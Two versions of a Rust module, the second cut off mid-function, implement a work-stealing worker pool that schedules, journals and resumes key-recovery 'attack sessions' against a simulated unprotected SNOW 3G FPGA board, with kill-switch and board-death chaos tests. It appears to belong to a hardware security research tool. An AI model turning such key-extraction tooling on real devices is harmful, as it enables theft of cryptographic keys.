use std::panic::{catch_unwind, AssertUnwindSafe};
use std::path::{Path, PathBuf};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Condvar, Mutex};
use std::thread;
use std::time::{Duration, Instant};

use bitstream::Bitstream;

use crate::campaign::CellStats;
use crate::oracle::{KeystreamOracle, OracleError};
use crate::telemetry::{names, Metrics, Telemetry};

use super::session::{
    record_board_faults, stats_from, ResumePolicy, SessionError, SessionIo, SessionOutcome,
    SessionSpec,
};
use super::store::{SessionHandle, SessionStore, TeeSink};

/// How a [`Fleet`] is dimensioned.
#[derive(Debug, Clone)]
pub struct FleetConfig {
    root: PathBuf,
    workers: usize,
}

impl FleetConfig {
    /// A fleet rooted at `root` (session directories live underneath)
    /// with one worker per available core.
    #[must_use]
    pub fn new(root: impl Into<PathBuf>) -> Self {
        let workers = thread::available_parallelism().map_or(1, std::num::NonZeroUsize::get);
        Self { root: root.into(), workers }
    }

    /// Overrides the worker count (clamped to ≥ 1).
    #[must_use]
    pub fn workers(mut self, workers: usize) -> Self {
        self.workers = workers.max(1);
        self
    }

    /// The configured worker count.
    #[must_use]
    pub fn worker_count(&self) -> usize {
        self.workers
    }

    /// The fleet root directory.
    #[must_use]
    pub fn root_dir(&self) -> &Path {
        &self.root
    }
}

/// The scheduler state under the one lock.
#[derive(Debug)]
struct Sched {
    /// Overflow + recovery queue every worker drains from.
    injector: VecDeque<String>,
    /// Per-worker queues (submissions go to the least loaded).
    queues: Vec<VecDeque<String>>,
    /// Workers that exited after a kill.
    dead: Vec<bool>,
    /// Sessions currently executing.
    active: usize,
}

impl Sched {
    fn queued(&self) -> usize {
        self.injector.len() + self.queues.iter().map(VecDeque::len).sum::<usize>()
    }
}

#[derive(Debug)]
struct Shared {
    store: SessionStore,
    sched: Mutex<Sched>,
    changed: Condvar,
    shutdown: AtomicBool,
    kills: Vec<Arc<AtomicBool>>,
    telemetry: Telemetry,
}

/// The work-stealing fleet: submit [`SessionSpec`]s, get
/// [`SessionHandle`]s, let the pool shard the load.
#[derive(Debug)]
pub struct Fleet {
    shared: Arc<Shared>,
    threads: Mutex<Vec<thread::JoinHandle<()>>>,
}

impl Fleet {
    /// Opens the fleet root, requeues every interrupted session found
    /// there (they resume from their journals), and starts the worker
    /// pool.
    ///
    /// # Errors
    ///
    /// [`SessionError::Layout`] when the root cannot be opened.
    pub fn start(config: FleetConfig) -> Result<Self, SessionError> {
        let (store, pending) = SessionStore::open(&config.root)?;
        let workers = config.workers;
        let shared = Arc::new(Shared {
            store,
            sched: Mutex::new(Sched {
                injector: pending.iter().map(|h| h.id().to_string()).collect(),
                queues: (0..workers).map(|_| VecDeque::new()).collect(),
                dead: vec![false; workers],
                active: 0,
            }),
            changed: Condvar::new(),
            shutdown: AtomicBool::new(false),
            kills: (0..workers).map(|_| Arc::new(AtomicBool::new(false))).collect(),
            telemetry: Telemetry::new(),
        });
        let threads = (0..workers)
            .map(|index| {
                let shared = shared.clone();
                thread::Builder::new()
                    .name(format!("fleet-worker-{index}"))
                    .spawn(move || worker_loop(&shared, index))
                    .expect("worker thread spawns")
            })
            .collect();
        Ok(Self { shared, threads: Mutex::new(threads) })
    }

    /// Admits a session and queues it on the least-loaded live
    /// worker.
    ///
    /// # Errors
    ///
    /// [`SessionError::Layout`] when the session directory cannot be
    /// created.
    pub fn submit(&self, spec: SessionSpec) -> Result<SessionHandle, SessionError> {
        let handle = self.shared.store.admit(spec)?;
        let mut sched = self.shared.sched.lock().expect("sched lock");
        let target = (0..sched.queues.len())
            .filter(|&i| !sched.dead[i])
            .min_by_key(|&i| sched.queues[i].len());
        match target {
            Some(i) => sched.queues[i].push_back(handle.id().to_string()),
            // Every worker killed: park on the injector; the session
            // stays durable and runs on the next boot.
            None => sched.injector.push_back(handle.id().to_string()),
        }
        drop(sched);
        self.shared.telemetry.incr(names::FLEET_SESSIONS_SUBMITTED, 1);
        self.shared.changed.notify_all();
        Ok(handle)
    }

    /// The handle of session `id`, when known.
    #[must_use]
    pub fn handle(&self, id: &str) -> Option<SessionHandle> {
        self.shared.store.get(id)
    }

    /// Every known session, in id order.
    #[must_use]
    pub fn sessions(&self) -> Vec<SessionHandle> {
        self.shared.store.all()
    }

    /// The fleet root directory.
    #[must_use]
    pub fn root(&self) -> &Path {
        self.shared.store.root()
    }

    /// A snapshot of the fleet-level counters
    /// (`fleet.sessions_submitted`, `fleet.steal_count`, …).
    #[must_use]
    pub fn counters(&self) -> Metrics {
        self.shared.telemetry.metrics()
    }

    /// Flips worker `index`'s kill switch: its in-flight session is
    /// rejected at the next oracle query and requeued (journal intact
    /// — a peer resumes it bit-identically), its queue drains to the
    /// injector, and the thread exits. The chaos hook behind the
    /// kill-and-steal tests.
    pub fn kill_worker(&self, index: usize) -> bool {
        let Some(kill) = self.shared.kills.get(index) else { return false };
        kill.store(true, Ordering::SeqCst);
        self.shared.changed.notify_all();
        true
    }

    /// Blocks until no session is queued or running (or `timeout`).
    /// Returns whether the fleet went idle.
    #[must_use]
    pub fn wait_idle(&self, timeout: Duration) -> bool {
        let deadline = Instant::now() + timeout;
        let mut sched = self.shared.sched.lock().expect("sched lock");
        loop {
            if sched.queued() == 0 && sched.active == 0 {
                return true;
            }
            let Some(left) = deadline.checked_duration_since(Instant::now()) else { return false };
            let (guard, _) = self
                .shared
                .changed
                .wait_timeout(sched, left.min(Duration::from_millis(100)))
                .expect("sched lock");
            sched = guard;
        }
    }

    /// Graceful shutdown: workers finish every queued session, then
    /// exit; returns the final counter snapshot. Sessions submitted
    /// after this call park durably and run on the next boot.
    pub fn shutdown(&self) -> Metrics {
        self.shared.shutdown.store(true, Ordering::SeqCst);
        self.shared.changed.notify_all();
        let threads: Vec<_> = self.threads.lock().expect("threads lock").drain(..).collect();
        for thread in threads {
            let _ = thread.join();
        }
        self.shared.telemetry.metrics()
    }
}

impl Drop for Fleet {
    fn drop(&mut self) {
        let _ = self.shutdown();
    }
}

/// An oracle wrapper enforcing a worker's kill switch at the query
/// chokepoint — the in-process analogue of `SIGKILL`, except the
/// worker gets to requeue its session instead of relying on the next
/// boot scan.
struct KillGate<'a> {
    inner: &'a dyn KeystreamOracle,
    kill: &'a AtomicBool,
}

impl KillGate<'_> {
    fn killed(&self) -> bool {
        self.kill.load(Ordering::SeqCst)
    }
}

impl KeystreamOracle for KillGate<'_> {
    fn keystream(&self, bitstream: &Bitstream, words: usize) -> Result<Vec<u32>, OracleError> {
        if self.killed() {
            return Err(OracleError::Rejected("worker killed".into()));
        }
        self.inner.keystream(bitstream, words)
    }

    fn keystream_batch(
        &self,
        bitstreams: &[Bitstream],
        words: usize,
    ) -> Vec<Result<Vec<u32>, OracleError>> {
        if self.killed() {
            return bitstreams
                .iter()
                .map(|_| Err(OracleError::Rejected("worker killed".into())))
                .collect();
        }
        self.inner.keystream_batch(bitstreams, words)
    }

    fn state_snapshot(&self) -> Option<Vec<u8>> {
        self.inner.state_snapshot()
    }

    fn restore_state(&self, state: &[u8]) -> Result<(), OracleError> {
        self.inner.restore_state(state)
    }
}

fn build_board() -> Result<fpga_sim::Snow3gBoard, SessionError> {
    let config = netlist::snow3g_circuit::Snow3gCircuitConfig::unprotected(
        snow3g::vectors::TEST_SET_1_KEY,
        snow3g::vectors::TEST_SET_1_IV,
    );
    fpga_sim::Snow3gBoard::build(config, &fpga_sim::ImplementOptions::default())
        .map_err(SessionError::Board)
}

fn worker_loop(shared: &Shared, index: usize) {
    let started = Instant::now();
    let mut busy = Duration::ZERO;
    // The worker's board pool: one built board, reused across
    // sessions (clean sessions borrow it, noisy sessions wrap it in
    // the fault model and unwrap it back). Lost to a panicked
    // session, rebuilt lazily.
    let mut pool: Option<fpga_sim::Snow3gBoard> = None;
    let kill = shared.kills[index].clone();

    while let Some(id) = next_session(shared, index, &kill) {
        let Some(handle) = shared.store.get(&id) else {
            session_done(shared);
            continue;
        };
        let t0 = Instant::now();
        let keep_going = run_session(shared, index, &mut pool, &kill, &handle);
        busy += t0.elapsed();
        session_done(shared);
        if !keep_going {
            // Killed mid-session: hand the session back (its journal
            // stays on disk, so the peer resumes it bit-identically).
            handle.mark_requeued();
            let mut sched = shared.sched.lock().expect("sched lock");
            sched.injector.push_back(id);
            drop(sched);
            shared.telemetry.incr(names::FLEET_STEAL_COUNT, 1);
            shared.changed.notify_all();
            break;
        }
    }

    // Exit bookkeeping: drain the queue so peers can steal the work,
    // record utilisation, mark the slot dead.
    let mut sched = shared.sched.lock().expect("sched lock");
    let leftover: Vec<String> = sched.queues[index].drain(..).collect();
    sched.injector.extend(leftover);
    sched.dead[index] = true;
    drop(sched);
    if kill.load(Ordering::SeqCst) {
        shared.telemetry.incr(names::FLEET_WORKERS_KILLED, 1);
    }
    let total = started.elapsed().max(Duration::from_micros(1));
    let pct = (100 * busy.as_micros() / total.as_micros()) as u64;
    shared.telemetry.observe(names::FLEET_WORKER_UTILISATION_PCT, pct.min(100));
    shared.changed.notify_all();
}

/// Blocks until this worker has a session to run; `None` means exit
/// (killed, or shut down with nothing left to do).
fn next_session(shared: &Shared, index: usize, kill: &AtomicBool) -> Option<String> {
    let mut sched = shared.sched.lock().expect("sched lock");
    loop {
        if kill.load(Ordering::SeqCst) {
            return None;
        }
        if let Some(id) = sched.queues[index].pop_front() {
            sched.active += 1;
            observe_active(shared, sched.active);
            return Some(id);
        }
        if let Some(id) = sched.injector.pop_front() {
            sched.active += 1;
            observe_active(shared, sched.active);
            return Some(id);
        }
        // Steal the back half of the longest peer queue.
        let victim = (0..sched.queues.len())
            .filter(|&j| j != index && !sched.queues[j].is_empty())
            .max_by_key(|&j| sched.queues[j].len());
        if let Some(j) = victim {
            let take = sched.queues[j].len().div_ceil(2);
            let at = sched.queues[j].len() - take;
            let stolen: Vec<String> = sched.queues[j].split_off(at).into();
            shared.telemetry.incr(names::FLEET_STEAL_COUNT, stolen.len() as u64);
            for id in &stolen {
                if let Some(handle) = shared.store.get(id) {
                    handle.mark_requeued();
                }
            }
            sched.queues[index].extend(stolen);
            continue;
        }
        if shared.shutdown.load(Ordering::SeqCst) && sched.queued() == 0 {
            return None;
        }
        let (guard, _) =
            shared.changed.wait_timeout(sched, Duration::from_millis(50)).expect("sched lock");
        sched = guard;
    }
}

fn observe_active(shared: &Shared, active: usize) {
    shared.telemetry.observe(names::FLEET_SESSIONS_ACTIVE, active as u64);
}

fn session_done(shared: &Shared) {
    let mut sched = shared.sched.lock().expect("sched lock");
    sched.active -= 1;
    observe_active(shared, sched.active);
    drop(sched);
    shared.telemetry.incr(names::FLEET_SESSIONS_DONE, 1);
    shared.changed.notify_all();
}

/// Runs one session on this worker. Returns `false` when the kill
/// switch interrupted it (the caller requeues the session and exits).
fn run_session(
    shared: &Shared,
    index: usize,
    pool: &mut Option<fpga_sim::Snow3gBoard>,
    kill: &AtomicBool,
    handle: &SessionHandle,
) -> bool {
    let spec = handle.spec().clone();
    let layout = handle.layout().clone();
    handle.mark_running(index);
    if layout.journal().exists() {
        shared.telemetry.incr(names::FLEET_SESSIONS_RESUMED, 1);
    }

    let telemetry = match TeeSink::create(&layout.trace(), handle.tap()) {
        Ok(sink) => Telemetry::with_sink(Box::new(sink)),
        // A broken trace sink must not fail the session; metrics
        // still accumulate in memory.
        Err(_) => Telemetry::new(),
    };
    let io = SessionIo {
        journal: Some(layout.journal()),
        resume: ResumePolicy::IfJournalExists,
        telemetry,
        cancel: handle.cancel_token(),
        expected_key: Some(snow3g::vectors::TEST_SET_1_KEY),
    };

    let board = match pool.take().map(Ok).unwrap_or_else(build_board) {
        Ok(board) => board,
        Err(e) => {
            handle.finish(&SessionOutcome::Failed {
                stats: CellStats::default(),
                note: e.to_string(),
            });
            return true;
        }
    };

    let run = catch_unwind(AssertUnwindSafe(|| {
        if spec.is_noisy() {
            let noisy = fpga_sim::UnreliableBoard::new(board, spec.fault_profile());
            let gate = KillGate { inner: &noisy, kill };
            let golden = noisy.extract_bitstream();
            let result = spec.run_against(&gate, golden, &io);
            record_board_faults(&io.telemetry, &noisy);
            (result, noisy.into_inner())
        } else {
            let gate = KillGate { inner: &board, kill };
            let golden = board.extract_bitstream();
            let result = spec.run_against(&gate, golden, &io);
            (result, board)
        }
    }));

    match run {
        Ok((result, board)) => {
            *pool = Some(board);
            match result {
                Ok(report) => handle.finish(&report.outcome),
                Err(e) => {
                    if kill.load(Ordering::SeqCst) {
                        return false;
                    }
                    let outcome = if io.cancel.is_cancelled() {
                        SessionOutcome::Cancelled
                    } else {
                        SessionOutcome::Failed {
                            stats: stats_from(&io.telemetry),
                            note: e.to_string(),
                        }
                    };
                    handle.finish(&outcome);
                }
            }
        }
        Err(panic) => {
            // The board moved into the panicked closure and is gone;
            // the pool rebuilds lazily.
            let message = panic
                .downcast_ref::<&str>()
                .map(ToString::to_string)
                .or_else(|| panic.downcast_ref::<String>().cloned())
                .unwrap_or_else(|| "session panicked".to_string());
            handle.finish(&SessionOutcome::Failed {
                stats: stats_from(&io.telemetry),
                note: format!("panicked: {message}"),
            });
        }
    }
    true
}

#[cfg(test)]
mod tests {
    use super::super::store::SessionState;
    use super::*;

    fn temp_root(tag: &str) -> PathBuf {
        let dir = std::env::temp_dir().join(format!("bitmod-fleet-{tag}-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&dir);
        dir
    }

    #[test]
    fn a_clean_session_recovers_through_the_fleet() {
        let root = temp_root("clean");
        let fleet = Fleet::start(FleetConfig::new(&root).workers(1)).expect("starts");
        let spec = SessionSpec::builder().batch(fpga_sim::GANG_LANES).build().expect("valid");
        let handle = fleet.submit(spec).expect("submits");
        let status = handle.wait();
        assert_eq!(status.state, SessionState::Recovered, "note: {}", status.note);
        assert!(status.stats.physical > 0, "physical loads accounted");
        assert!(handle.layout().result().exists(), "result.json persisted");
        assert!(!handle.layout().journal().exists(), "journal removed on success");
        let counters = fleet.shutdown();
        assert_eq!(counters.counter(names::FLEET_SESSIONS_SUBMITTED), 1);
        assert_eq!(counters.counter(names::FLEET_SESSIONS_DONE), 1);
        let _ = std::fs::remove_dir_all(&root);
    }

    #[test]
    fn cancelling_a_session_reaches_a_cancelled_terminal_state() {
        let root = temp_root("cancel");
        let fleet = Fleet::start(FleetConfig::new(&root).workers(1)).expect("starts");
        // Cancel before submission can win the race with the worker:
        // cancel the handle immediately; whichever query it lands on,
        // the terminal state must be Cancelled, never a wrong result.
        let spec = SessionSpec::builder().build().expect("valid");
        let handle = fleet.submit(spec).expect("submits");
        handle.cancel();
        let status = handle.wait();
        assert!(
            matches!(status.state, SessionState::Cancelled | SessionState::Recovered),
            "cancel races completion, got {:?} ({})",
            status.state,
            status.note
        );
        let _ = fleet.shutdown();
        let _ = std::fs::remove_dir_all(&root);
    }
}
