//! The work-stealing worker pool: N board-backed workers sharding
//! attack sessions, with kill-and-steal recovery over the crash-safe
//! journals.
//!
//! Scheduling is deliberately simple — one mutex over an injector
//! queue plus per-worker queues, a condvar, and steal-back-half when
//! a worker runs dry — because the unit of work (a full key-recovery
//! session, hundreds of physical loads) is enormous compared to the
//! cost of a queue operation. What makes the pool a *fleet* rather
//! than a thread pool is the recovery contract: every session is
//! journalled write-ahead into its own
//! [`SessionLayout`](super::layout::SessionLayout), so a worker that
//! dies mid-session (the in-process kill switch here, `SIGKILL` of
//! the whole daemon in the serve smoke test) leaves a journal a peer
//! picks up and resumes to the *bit-identical* query trace — the same
//! guarantee `tests/resume.rs` pins for single runs, lifted to the
//! fleet.

use std::collections::VecDeque;
use std::panic::{catch_unwind, AssertUnwindSafe};
use std::path::{Path, PathBuf};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Condvar, Mutex};
use std::thread;
use std::time::{Duration, Instant};

use bitstream::Bitstream;

use crate::campaign::CellStats;
use crate::oracle::{KeystreamOracle, OracleError};
use crate::telemetry::{names, Metrics, Telemetry};

use super::health::{self, BoardScore, WorkerHealth};
use super::session::{
    record_board_faults, stats_from, ResumePolicy, SessionError, SessionIo, SessionOutcome,
    SessionSpec,
};
use super::store::{SessionHandle, SessionStore, TeeSink};

/// How a [`Fleet`] is dimensioned.
#[derive(Debug, Clone)]
pub struct FleetConfig {
    root: PathBuf,
    workers: usize,
    /// Board-local pathology: `pathology[i]` kills worker `i`'s board
    /// permanently at that load index. Chaos-testing hook — the spec
    /// deliberately cannot express this
    /// ([`SessionSpec::fault_profile`] owns only the ambient noise).
    pathology: Vec<Option<u64>>,
}

impl FleetConfig {
    /// A fleet rooted at `root` (session directories live underneath)
    /// with one worker per available core.
    #[must_use]
    pub fn new(root: impl Into<PathBuf>) -> Self {
        let workers = thread::available_parallelism().map_or(1, std::num::NonZeroUsize::get);
        Self { root: root.into(), workers, pathology: Vec::new() }
    }

    /// Overrides the worker count (clamped to ≥ 1).
    #[must_use]
    pub fn workers(mut self, workers: usize) -> Self {
        self.workers = workers.max(1);
        self
    }

    /// Dooms worker `index`'s board to die permanently at noisy load
    /// number `load` (counting this boot's loads on that board). The
    /// chaos hook behind the board-death tests; sessions on the dying
    /// board migrate to healthy peers.
    #[must_use]
    pub fn board_dies_at(mut self, index: usize, load: u64) -> Self {
        if self.pathology.len() <= index {
            self.pathology.resize(index + 1, None);
        }
        self.pathology[index] = Some(load);
        self
    }

    /// The configured worker count.
    #[must_use]
    pub fn worker_count(&self) -> usize {
        self.workers
    }

    /// The fleet root directory.
    #[must_use]
    pub fn root_dir(&self) -> &Path {
        &self.root
    }
}

/// The scheduler state under the one lock.
#[derive(Debug)]
struct Sched {
    /// Overflow + recovery queue every worker drains from.
    injector: VecDeque<String>,
    /// Per-worker queues (submissions go to the least loaded).
    queues: Vec<VecDeque<String>>,
    /// Workers that exited after a kill.
    dead: Vec<bool>,
    /// Sessions currently executing.
    active: usize,
}

impl Sched {
    fn queued(&self) -> usize {
        self.injector.len() + self.queues.iter().map(VecDeque::len).sum::<usize>()
    }
}

#[derive(Debug)]
struct Shared {
    store: SessionStore,
    sched: Mutex<Sched>,
    changed: Condvar,
    shutdown: AtomicBool,
    /// A graceful drain is in flight: workers are being stopped via
    /// their kill switches, but the requeues are parked checkpoints,
    /// not steals — the counters (and the next boot) must tell the
    /// difference.
    draining: AtomicBool,
    kills: Vec<Arc<AtomicBool>>,
    telemetry: Telemetry,
    /// Per-worker board-health scores, folded in after every noisy
    /// session from the board's own fault accounting.
    boards: Mutex<Vec<BoardScore>>,
    /// Per-worker board pathology (see
    /// [`FleetConfig::board_dies_at`]).
    pathology: Vec<Option<u64>>,
}

/// The work-stealing fleet: submit [`SessionSpec`]s, get
/// [`SessionHandle`]s, let the pool shard the load.
#[derive(Debug)]
pub struct Fleet {
    shared: Arc<Shared>,
    threads: Mutex<Vec<thread::JoinHandle<()>>>,
}

impl Fleet {
    /// Opens the fleet root, requeues every interrupted session found
    /// there (they resume from their journals), and starts the worker
    /// pool.
    ///
    /// # Errors
    ///
    /// [`SessionError::Layout`] when the root cannot be opened.
    pub fn start(config: FleetConfig) -> Result<Self, SessionError> {
        let (store, pending) = SessionStore::open(&config.root)?;
        let workers = config.workers;
        let shared = Arc::new(Shared {
            store,
            sched: Mutex::new(Sched {
                injector: pending.iter().map(|h| h.id().to_string()).collect(),
                queues: (0..workers).map(|_| VecDeque::new()).collect(),
                dead: vec![false; workers],
                active: 0,
            }),
            changed: Condvar::new(),
            shutdown: AtomicBool::new(false),
            draining: AtomicBool::new(false),
            kills: (0..workers).map(|_| Arc::new(AtomicBool::new(false))).collect(),
            telemetry: Telemetry::new(),
            boards: Mutex::new(vec![BoardScore::default(); workers]),
            pathology: {
                let mut pathology = config.pathology.clone();
                pathology.resize(workers.max(pathology.len()), None);
                pathology
            },
        });
        // Boot rescan: re-probe every board quarantined by a previous
        // boot. A board that answers a probe read again (replaced or
        // recovered hardware) rejoins the pool; its marker is cleared
        // so this boot's health report starts clean.
        for index in health::scan_quarantined(shared.store.root()) {
            if build_board().map(|board| probe_board(&board)).unwrap_or(false) {
                health::clear_quarantine(shared.store.root(), index);
                shared.telemetry.incr(names::FLEET_BOARDS_REPROBED, 1);
            } else if let Some(score) = shared.boards.lock().expect("boards lock").get_mut(index) {
                score.dead = true;
            }
        }
        let threads = (0..workers)
            .map(|index| {
                let shared = shared.clone();
                thread::Builder::new()
                    .name(format!("fleet-worker-{index}"))
                    .spawn(move || worker_loop(&shared, index))
                    .expect("worker thread spawns")
            })
            .collect();
        Ok(Self { shared, threads: Mutex::new(threads) })
    }

    /// Admits a session and queues it on the least-loaded live
    /// worker.
    ///
    /// # Errors
    ///
    /// [`SessionError::Layout`] when the session directory cannot be
    /// created.
    pub fn submit(&self, spec: SessionSpec) -> Result<SessionHandle, SessionError> {
        self.submit_with_token(spec, None).map(|(handle, _)| handle)
    }

    /// [`Fleet::submit`] with an optional client idempotency token: a
    /// token the store has already admitted returns the original
    /// session's handle and `true` without queueing anything — the
    /// dedup behind retried `submit`s on a flaky link.
    ///
    /// # Errors
    ///
    /// [`SessionError::Layout`] when the session directory cannot be
    /// created.
    pub fn submit_with_token(
        &self,
        spec: SessionSpec,
        token: Option<&str>,
    ) -> Result<(SessionHandle, bool), SessionError> {
        let (handle, deduped) = self.shared.store.admit_with_token(spec, token)?;
        if deduped {
            return Ok((handle, true));
        }
        let mut sched = self.shared.sched.lock().expect("sched lock");
        let target = (0..sched.queues.len())
            .filter(|&i| !sched.dead[i])
            .min_by_key(|&i| sched.queues[i].len());
        match target {
            Some(i) => sched.queues[i].push_back(handle.id().to_string()),
            // Every worker killed: park on the injector; the session
            // stays durable and runs on the next boot.
            None => sched.injector.push_back(handle.id().to_string()),
        }
        drop(sched);
        self.shared.telemetry.incr(names::FLEET_SESSIONS_SUBMITTED, 1);
        self.shared.changed.notify_all();
        Ok((handle, false))
    }

    /// The fleet's telemetry registry (where the server folds in its
    /// transport counters, so `counters` reports wire health next to
    /// scheduling health).
    #[must_use]
    pub fn telemetry(&self) -> &Telemetry {
        &self.shared.telemetry
    }

    /// The handle of session `id`, when known.
    #[must_use]
    pub fn handle(&self, id: &str) -> Option<SessionHandle> {
        self.shared.store.get(id)
    }

    /// Every known session, in id order.
    #[must_use]
    pub fn sessions(&self) -> Vec<SessionHandle> {
        self.shared.store.all()
    }

    /// The fleet root directory.
    #[must_use]
    pub fn root(&self) -> &Path {
        self.shared.store.root()
    }

    /// A snapshot of the fleet-level counters
    /// (`fleet.sessions_submitted`, `fleet.steal_count`, …).
    #[must_use]
    pub fn counters(&self) -> Metrics {
        self.shared.telemetry.metrics()
    }

    /// Per-worker board health, in worker order: the rolling
    /// injected-fault score of each worker's board and its health
    /// band. Surfaces in `bitmod status`.
    #[must_use]
    pub fn health(&self) -> Vec<WorkerHealth> {
        self.shared
            .boards
            .lock()
            .expect("boards lock")
            .iter()
            .enumerate()
            .map(|(worker, score)| WorkerHealth { worker, score: *score })
            .collect()
    }

    /// Flips worker `index`'s kill switch: its in-flight session is
    /// rejected at the next oracle query and requeued (journal intact
    /// — a peer resumes it bit-identically), its queue drains to the
    /// injector, and the thread exits. The chaos hook behind the
    /// kill-and-steal tests.
    pub fn kill_worker(&self, index: usize) -> bool {
        let Some(kill) = self.shared.kills.get(index) else { return false };
        kill.store(true, Ordering::SeqCst);
        self.shared.changed.notify_all();
        true
    }

    /// Blocks until no session is queued or running (or `timeout`).
    /// Returns whether the fleet went idle.
    #[must_use]
    pub fn wait_idle(&self, timeout: Duration) -> bool {
        let deadline = Instant::now() + timeout;
        let mut sched = self.shared.sched.lock().expect("sched lock");
        loop {
            if sched.queued() == 0 && sched.active == 0 {
                return true;
            }
            let Some(left) = deadline.checked_duration_since(Instant::now()) else { return false };
            let (guard, _) = self
                .shared
                .changed
                .wait_timeout(sched, left.min(Duration::from_millis(100)))
                .expect("sched lock");
            sched = guard;
        }
    }

    /// Graceful shutdown: workers finish every queued session, then
    /// exit; returns the final counter snapshot. Sessions submitted
    /// after this call park durably and run on the next boot.
    pub fn shutdown(&self) -> Metrics {
        self.shared.shutdown.store(true, Ordering::SeqCst);
        self.shared.changed.notify_all();
        let threads: Vec<_> = self.threads.lock().expect("threads lock").drain(..).collect();
        for thread in threads {
            let _ = thread.join();
        }
        self.shared.telemetry.metrics()
    }

    /// Graceful *drain*: stop now, lose nothing. Running sessions are
    /// interrupted at their next oracle query and requeued with their
    /// journals intact (a checkpoint, counted as
    /// `fleet.drain_parked`); queued sessions stay durable on disk
    /// (no `result.json`). The next [`Fleet::start`] on the same root
    /// rescans and resumes every one of them bit-identically. This is
    /// what the serve daemon runs on `shutdown` — unlike
    /// [`Fleet::shutdown`], it does not wait for the backlog.
    pub fn drain(&self) -> Metrics {
        self.shared.draining.store(true, Ordering::SeqCst);
        self.shared.shutdown.store(true, Ordering::SeqCst);
        for kill in &self.shared.kills {
            kill.store(true, Ordering::SeqCst);
        }
        self.shared.changed.notify_all();
        let threads: Vec<_> = self.threads.lock().expect("threads lock").drain(..).collect();
        for thread in threads {
            let _ = thread.join();
        }
        self.shared.telemetry.metrics()
    }
}

impl Drop for Fleet {
    fn drop(&mut self) {
        let _ = self.shutdown();
    }
}

/// An oracle wrapper enforcing a worker's kill switch at the query
/// chokepoint — the in-process analogue of `SIGKILL`, except the
/// worker gets to requeue its session instead of relying on the next
/// boot scan.
struct KillGate<'a> {
    inner: &'a dyn KeystreamOracle,
    kill: &'a AtomicBool,
}

impl KillGate<'_> {
    fn killed(&self) -> bool {
        self.kill.load(Ordering::SeqCst)
    }
}

impl KeystreamOracle for KillGate<'_> {
    fn keystream(&self, bitstream: &Bitstream, words: usize) -> Result<Vec<u32>, OracleError> {
        if self.killed() {
            return Err(OracleError::Rejected("worker killed".into()));
        }
        self.inner.keystream(bitstream, words)
    }

    fn keystream_batch(
        &self,
        bitstreams: &[Bitstream],
        words: usize,
    ) -> Vec<Result<Vec<u32>, OracleError>> {
        if self.killed() {
            return bitstreams
                .iter()
                .map(|_| Err(OracleError::Rejected("worker killed".into())))
                .collect();
        }
        self.inner.keystream_batch(bitstreams, words)
    }

    fn state_snapshot(&self) -> Option<Vec<u8>> {
        self.inner.state_snapshot()
    }

    fn restore_state(&self, state: &[u8]) -> Result<(), OracleError> {
        self.inner.restore_state(state)
    }

    // Fault planning forwards verbatim: the kill switch is enforced
    // on every *committing* call path above, and a kill that lands
    // between planning and commit is caught at the next query exactly
    // as it would be between two serial queries.
    fn fault_planning(&self) -> bool {
        self.inner.fault_planning()
    }

    fn plan_read(&self, ahead: u64, words: usize) -> Option<fpga_sim::ReadPlan> {
        self.inner.plan_read(ahead, words)
    }

    fn commit_reads(&self, plans: &[fpga_sim::ReadPlan]) {
        self.inner.commit_reads(plans);
    }

    fn keystream_batch_clean(
        &self,
        bitstreams: &[Bitstream],
        words: usize,
    ) -> Vec<Result<Vec<u32>, OracleError>> {
        if self.killed() {
            return bitstreams
                .iter()
                .map(|_| Err(OracleError::Rejected("worker killed".into())))
                .collect();
        }
        self.inner.keystream_batch_clean(bitstreams, words)
    }

    fn resolve_plan(
        &self,
        plan: &fpga_sim::ReadPlan,
        clean: Result<Vec<u32>, OracleError>,
        want: usize,
    ) -> Result<Vec<u32>, OracleError> {
        self.inner.resolve_plan(plan, clean, want)
    }
}

fn build_board() -> Result<fpga_sim::Snow3gBoard, SessionError> {
    let config = netlist::snow3g_circuit::Snow3gCircuitConfig::unprotected(
        snow3g::vectors::TEST_SET_1_KEY,
        snow3g::vectors::TEST_SET_1_IV,
    );
    fpga_sim::Snow3gBoard::build(config, &fpga_sim::ImplementOptions::default())
        .map_err(SessionError::Board)
}

/// One probe read against a candidate board: does it still answer?
fn probe_board(board: &fpga_sim::Snow3gBoard) -> bool {
    KeystreamOracle::keystream(board, &board.extract_bitstream(), 1).is_ok()
}

/// How one session run left its worker.
enum Verdict {
    /// Terminal outcome recorded; the worker keeps working.
    Continue,
    /// The kill switch interrupted the session: requeue it and exit
    /// (kill-and-steal).
    Requeue,
    /// The board died mid-session and is quarantined: migrate the
    /// session to a healthy peer and retire the worker.
    Migrate,
    /// The board died but the session still reached a terminal state:
    /// retire the worker without requeueing anything.
    Retire,
}

fn worker_loop(shared: &Shared, index: usize) {
    let started = Instant::now();
    let mut busy = Duration::ZERO;
    // The worker's board pool: one built board, reused across
    // sessions (clean sessions borrow it, noisy sessions wrap it in
    // the fault model and unwrap it back). Lost to a panicked
    // session, rebuilt lazily.
    let mut pool: Option<fpga_sim::Snow3gBoard> = None;
    let kill = shared.kills[index].clone();

    while let Some(id) = next_session(shared, index, &kill) {
        let Some(handle) = shared.store.get(&id) else {
            session_done(shared);
            continue;
        };
        let t0 = Instant::now();
        let verdict = run_session(shared, index, &mut pool, &kill, &handle);
        busy += t0.elapsed();
        session_done(shared);
        match verdict {
            Verdict::Continue => {}
            // Interrupted mid-session: hand the session back (its
            // journal stays on disk, so the peer resumes it
            // bit-identically), then exit. A kill and a board death
            // ride the same requeue path; only the counter differs.
            Verdict::Requeue | Verdict::Migrate => {
                handle.mark_requeued();
                let mut sched = shared.sched.lock().expect("sched lock");
                sched.injector.push_back(id);
                drop(sched);
                let counter = match verdict {
                    Verdict::Migrate => names::FLEET_SESSIONS_MIGRATED,
                    // A drain's requeue is a parked checkpoint, not a
                    // steal: no peer will pick it up this boot.
                    _ if shared.draining.load(Ordering::SeqCst) => names::FLEET_DRAIN_PARKED,
                    _ => names::FLEET_STEAL_COUNT,
                };
                shared.telemetry.incr(counter, 1);
                shared.changed.notify_all();
                break;
            }
            Verdict::Retire => break,
        }
    }

    // Exit bookkeeping: drain the queue so peers can steal the work,
    // record utilisation, mark the slot dead.
    let mut sched = shared.sched.lock().expect("sched lock");
    let leftover: Vec<String> = sched.queues[index].drain(..).collect();
    sched.injector.extend(leftover);
    sched.dead[index] = true;
    drop(sched);
